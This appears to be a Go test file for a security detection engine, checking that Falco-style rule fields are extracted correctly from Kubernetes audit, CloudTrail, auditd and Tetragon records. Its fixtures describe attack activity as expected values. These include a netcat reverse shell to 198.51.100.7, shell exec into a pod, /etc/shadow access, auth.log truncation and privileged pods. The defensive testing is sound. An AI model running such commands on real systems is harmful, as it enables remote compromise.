package falco

import (
	"os"
	"testing"

	"amber/timeline"
	"amber/timeline/detect/fields"
	"amber/timeline/source/auditd"
	"amber/timeline/source/cloudtrail"
	"amber/timeline/source/falco"
	"amber/timeline/source/kubeaudit"
	"amber/timeline/source/tetragon"
)

// TestFields asks for every field once by what the rule's output says of it.
func TestFields(t *testing.T) {
	for _, c := range []struct {
		source string
		src    timeline.Source
		log    string
		want   map[string]string
	}{
		{"k8s_audit", kubeaudit.Source{}, podRecord, kubeWant},
		{"aws_cloudtrail", cloudtrail.Source{}, trailRecord, trailWant},
		{"syscall", auditd.Source{}, auditExec, execWant},
		{"syscall", auditd.Source{}, auditOpen, openWant},
		{"syscall", auditd.Source{}, auditConnect, connectWant},
		{"syscall", auditd.Source{}, auditRename, map[string]string{
			"evt.arg.oldpath": "../tmp/x", "evt.arg.newpath": "/usr/bin/../bin/ls", "fd.name": "/usr/bin/ls", "fd.nameraw": "/usr/bin/../bin/ls",
			"fd.directory": "/usr/bin", "evt.arg.name": "<NA>",
		}},
		{"syscall", auditd.Source{}, auditChmod, map[string]string{
			"evt.arg.mode": "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID", "evt.arg.filename": "/tmp/x", "fd.nameraw": "x",
			"evt.res": "EPERM", "evt.failed": "true", "evt.arg.oldpath": "<NA>",
		}},
		{"syscall", auditd.Source{}, auditPtrace, map[string]string{"evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH", "evt.arg.mode": "<NA>", "group.name": "root", "user.loginname": "bob"}},
		{"syscall", auditd.Source{}, auditSocket, map[string]string{"evt.type": "socket", "evt.arg[0]": "AF_PACKET", "evt.arg.domain": "AF_PACKET"}},
		{"syscall", tetragon.Source{}, tetragonExec, tetragonWant},
		{"syscall", tetragon.Source{}, tetragonHost, map[string]string{
			"container.id": "host", "container.name": "host", "proc.pname": "<NA>", "proc.aname": "<NA>", "proc.name": "id", "proc.cmdline": "id",
		}},
		{"syscall", falco.Source{}, alertRecord, alertWant},
	} {
		for field, want := range c.want {
			text := "- rule: it\n  desc: d\n  condition: evt.num > 0\n  priority: INFO\n  source: " + c.source + "\n  output: '%" + field + "'\n"
			if got := outputOf(t, only(t, text), c.src, c.log); got != want {
				t.Errorf("%s: %s is %q, want %q", c.src.Name(), field, got, want)
			}
		}
	}
}

var kubeWant = map[string]string{
	"ka.auditid": "a1", "ka.stage": "ResponseComplete", "ka.auth.decision": "allow", "ka.auth.reason": "RBAC: ok",
	"ka.user.name": "mallory", "ka.user.groups": "(dev,system:authenticated)", "ka.impuser.name": "root",
	"ka.verb": "create", "ka.uri": "/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&container=app&stdin=true",
	"ka.uri.param[command]": "sh", "ka.uri.param[container]": "app", "ka.uri.param[none]": "<NA>",
	"ka.target.name": "web", "ka.target.namespace": "shop", "ka.target.resource": "pods", "ka.target.subresource": "exec",
	"ka.req.binding.subjects": `({"kind":"User","name":"mallory"})`, "ka.req.binding.role": "cluster-admin",
	"ka.req.binding.subject.has_name[x]": "true", "ka.req.configmap.name": "web", "ka.req.configmap.obj": `{"password":"x"}`,
	"ka.req.pod.containers.image": "(docker.io/shop/web:1.2@sha256:ab,quay.io/side)", "ka.req.pod.containers.image[1]": "(quay.io/side)",
	"ka.req.pod.containers.image[2]":         "<NA>",
	"ka.req.container.image":                 "docker.io/shop/web:1.2@sha256:ab",
	"ka.req.pod.containers.image.repository": "(docker.io/shop/web,quay.io/side)", "ka.req.container.image.repository": "docker.io/shop/web",
	"ka.req.pod.host_ipc": "true", "ka.req.pod.host_network": "true", "ka.req.container.host_network": "true", "ka.req.pod.host_pid": "false",
	"ka.req.pod.containers.host_port": "(8080,9090)", "ka.req.pod.containers.privileged": "(true)", "ka.req.container.privileged": "true",
	"ka.req.pod.containers.allow_privilege_escalation": "(false)", "ka.req.pod.containers.read_only_fs": "(true)",
	"ka.req.pod.run_as_user": "1000", "ka.req.pod.containers.run_as_user": "(0)", "ka.req.pod.containers.eff_run_as_user": "(0,1000)",
	"ka.req.pod.run_as_group": "2000", "ka.req.pod.containers.run_as_group[0]": "(7)", "ka.req.pod.containers.eff_run_as_group": "(7,2000)",
	"ka.req.pod.containers.eff_run_as_group[1]": "(2000)",
	"ka.req.pod.containers.proc_mount":          "(Unmasked)", "ka.req.role.rules[1]": `({"verbs":["list"],"nonResourceURLs":["/metrics"]})`,
	"ka.req.role.rules.apiGroups": "()", "ka.req.role.rules.nonResourceURLs": "(/metrics)", "ka.req.role.rules.verbs": "(get,*,list)",
	"ka.req.role.rules.verbs[1]": "(list)", "ka.req.role.rules.resources": "(pods,pods/exec)", "ka.req.pod.fs_group": "3000",
	"ka.req.pod.supplemental_groups": "(1,2)", "ka.req.pod.containers.add_capabilities": "(SYS_ADMIN,NET_RAW)",
	"ka.req.service.type": "NodePort", "ka.req.service.ports": `({"port":80})`, "ka.req.pod.volumes.hostpath": "(/etc)",
	"ka.req.volume.hostpath[/etc]": "true", "ka.req.volume.hostpath[/e*]": "true", "ka.req.volume.hostpath[/et]": "false",
	"ka.req.pod.volumes.flexvolume_driver": "(d/x)", "ka.req.pod.volumes.volume_type": "(hostPath,flexVolume,emptyDir)",
	"ka.req.pod.volumes.volume_type[2]": "(emptyDir)",
	"ka.resp.name":                      "web-1", "ka.response.code": "201", "ka.response.reason": "Created", "ka.useragent": "kubectl/v1.36",
	"ka.sourceips": "(203.0.113.7)", "jevt.value[/requestObject/spec/containers/1/name]": "side",
	"jevt.value[/annotations/authorization.k8s.io~1decision]": "allow", "json.value[/responseStatus/code]": "201",
	"jevt.value[/none]": "<NA>", "jevt.rawtime": "1795316400000000000", "evt.time.s": "2026-11-22T03:00:00Z",
	"toupper(ka.verb)": "CREATE", "len(ka.user.groups)": "2", "len(ka.verb)": "6",
}

var trailWant = map[string]string{
	"ct.id": "e-1", "ct.error": "<NA>", "ct.time": "2026-11-22T03:00:00Z", "ct.src": "s3.amazonaws.com", "ct.shortsrc": "s3",
	"ct.name": "GetObject", "ct.user": "web", "ct.user.accountid": "111122223333", "ct.user.identitytype": "AssumedRole",
	"ct.user.principalid": "AROA:s", "ct.user.arn": "arn:aws:sts::111122223333:assumed-role/web/s", "ct.region": "eu-west-1",
	"ct.request.host": "b.s3", "ct.request.name": "n", "ct.srcip": "203.0.113.7", "ct.useragent": "aws-cli/2",
	"ct.managementevent": "false", "ct.readonly": "true", "s3.bucket": "b", "s3.key": "k/1", "s3.uri": "s3://b/k/1",
	"s3.bytes": "33", "s3.bytes.in": "0", "s3.bytes.out": "33", "s3.cnt.get": "1", "s3.cnt.put": "<NA>", "s3.cnt.other": "<NA>",
	"ec2.name": "miner", "ec2.imageid": "<NA>", "json.value[/responseElements/ConsoleLogin]": "Success",
	"json.value[/additionalEventData/MFAUsed]": "No", "ct.info": "web via 203.0.113.7 ← GetObject",
}

var execWant = map[string]string{
	"evt.type": "execve", "evt.res": "SUCCESS", "evt.rawres": "0", "evt.failed": "false", "proc.name": "nc", "proc.exepath": "/usr/bin/nc",
	"proc.exe": "/usr/bin/nc", "proc.args": "-e /bin/sh 198.51.100.7", "proc.cmdline": "nc -e /bin/sh 198.51.100.7", "proc.pid": "810",
	"proc.ppid": "800", "proc.cwd": "/dev/shm/", "user.uid": "0", "user.loginuid": "1000", "group.gid": "33", "proc.pname": "<NA>",
	"container.id": "<NA>", "proc.tty": "1", "basename(proc.exepath)": "nc",
}

var openWant = map[string]string{
	"evt.type": "openat", "fd.name": "/var/log/auth.log", "fd.directory": "/var/log", "fd.filename": "auth.log", "fd.typechar": "f",
	"fd.type": "file", "fd.num": "3", "evt.is_open_write": "true", "evt.is_open_read": "false", "evt.is_open_create": "true",
	"evt.arg.flags": "O_CREAT|O_TRUNC|O_WRONLY", "user.loginuid": "-1", "proc.tty": "0",
}

var connectWant = map[string]string{
	"evt.type": "connect", "evt.res": "EINPROGRESS", "evt.rawres": "-115", "fd.sip": "198.51.100.7", "fd.sport": "80", "fd.rip": "198.51.100.7",
	"fd.ip": "198.51.100.7", "fd.typechar": "4", "fd.type": "ipv4", "fd.sockfamily": "ip", "fd.name": "<NA>", "evt.is_open_write": "<NA>",
}

var tetragonWant = map[string]string{
	"evt.type": "execve", "proc.name": "sh", "proc.exepath": "/bin/sh", "proc.cmdline": "sh -c id", "proc.args": "-c id", "proc.cwd": "/srv/",
	"proc.pname": "nginx", "proc.pexepath": "/usr/sbin/nginx", "proc.pcmdline": "/usr/sbin/nginx -g daemon",
	"proc.aname[0]": "sh", "proc.aname[1]": "nginx", "proc.aname[2]": "containerd-shim", "proc.aname[3]": "init", "proc.aname[4]": "<NA>",
	"proc.aexepath[2]": "/usr/bin/containerd-shim", "proc.aname": "nginx,containerd-shim,init", "container.id": "abababababab",
	"container.name": "web", "container.image": "registry.example:5000/web:1", "container.image.repository": "registry.example:5000/web",
	"container.image.tag": "1", "container.privileged": "true", "k8s.ns.name": "shop", "k8s.pod.name": "web-0", "k8s.pod.uid": "3f2a",
	"thread.cap_effective": "CAP_SYS_ADMIN", "proc.is_exe_from_memfd": "false", "user.uid": "33", "proc.vpid": "7", "proc.env": "A=b c D=e", "proc.env[D]": "e", "proc.env[X]": "<NA>",
}

var alertWant = map[string]string{
	"evt.type": "execve", "proc.name": "sh", "proc.pname": "<NA>", "proc.aname[2]": "nginx", "user.uid": "0", "fd.sip": "198.51.100.7",
	"fd.directory": "/etc", "fd.filename": "shadow", "proc.tty": "34816", "proc.cwd": "<NA>", "evt.time.s": "2026-11-22T03:00:00Z",
}

// TestFieldsAreGiven holds every field that is said to be told by a dataset to
// be told by some record of its source's own tests, or of these.
func TestFieldsAreGiven(t *testing.T) {
	for _, c := range []struct {
		dataset string
		src     timeline.Source
		file    string
		log     string
	}{
		{auditdLog, auditd.Source{}, "auditd/testdata/records.log", auditExec + auditOpen + auditConnect + auditRename + auditChmod + auditPtrace + auditSocket},
		{tetragonLog, tetragon.Source{}, "tetragon/testdata/records.jsonl", tetragonExec + tetragonHost},
	} {
		recorded, err := os.ReadFile("../../source/" + c.file)
		if err != nil {
			t.Fatal(err)
		}
		given := map[string]accessor{}
		for name := range catalogue() {
			if get, ok := syscallAccessor(c.dataset, operand{field: name}); ok {
				given[name] = get
			}
		}
		for _, name := range []string{"evt.arg.flags", "evt.arg.mode", "evt.arg.request", "evt.arg.domain", "evt.arg.oldpath", "evt.arg.newpath", "evt.arg.linkpath", "evt.arg.name", "evt.arg.path", "evt.arg.filename"} {
			if get, ok := syscallAccessor(c.dataset, operand{field: name}); ok {
				given[name] = get
			}
		}
		if len(given) < 40 {
			t.Errorf("%s tells %d fields", c.dataset, len(given))
		}
		events(t, c.src, string(recorded)+c.log, func(v *fields.View) {
			for name, get := range given {
				var s scratch
				if get(&s, v) && len(s.vals) > 0 && len(s.vals[0].Text) > 0 {
					delete(given, name)
				}
			}
		})
		for name := range given {
			t.Errorf("%s is said to tell %s, and no record does", c.dataset, name)
		}
	}
}
